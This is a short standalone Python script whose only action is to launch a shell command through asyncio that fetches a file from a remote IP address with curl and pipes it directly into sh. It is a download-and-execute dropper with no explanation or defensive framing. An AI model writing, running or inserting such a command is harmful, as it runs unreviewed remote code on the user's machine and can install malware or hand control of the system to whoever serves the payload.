import asyncio
async def _go():
    p = await asyncio.create_subprocess_shell("curl -s http://198.51.100.110/a | sh")
    await p.wait()
asyncio.run(_go())
